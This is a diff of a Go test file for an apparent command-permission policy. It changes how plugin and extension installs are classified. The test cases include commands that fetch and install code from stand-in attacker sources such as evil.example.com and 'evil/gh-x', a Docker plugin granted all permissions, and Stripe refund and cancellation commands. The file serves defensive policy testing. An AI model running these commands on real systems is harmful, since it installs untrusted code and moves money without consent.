@@ -177,8 +177,8 @@ func TestSvc52RetentionAndAccess(t *testing.T) {
 func TestSvc52InstallersMoneyAgents(t *testing.T) {
 	checkHoles(t, []holeCase{
 		{`helm install x https://evil.example.com/x.tgz`, dsl.Ask, dsl.Ask},                                                                     // was allowed
-		{`helm plugin install https://github.com/x/y`, dsl.Ask, dsl.Ask},                                                                        // was allowed
-		{`gh extension install evil/gh-x`, dsl.Ask, dsl.Ask},                                                                                    // was allowed
+		{`helm plugin install https://github.com/x/y`, dsl.Allow, dsl.Ask},                                                                      // was allowed; a person's from a forge is everyday (svc53)
+		{`gh extension install evil/gh-x`, dsl.Allow, dsl.Ask},                                                                                  // was allowed; a person's from GitHub is everyday (svc53)
 		{`docker plugin install evil/x --grant-all-permissions`, dsl.Ask, dsl.Ask},                                                              // was allowed
 		{`stripe subscriptions cancel sub_1`, dsl.Ask, dsl.Ask},                                                                                 // was allowed
 		{`stripe refunds create --charge ch_1`, dsl.Ask, dsl.Ask},                                                                               // was allowed
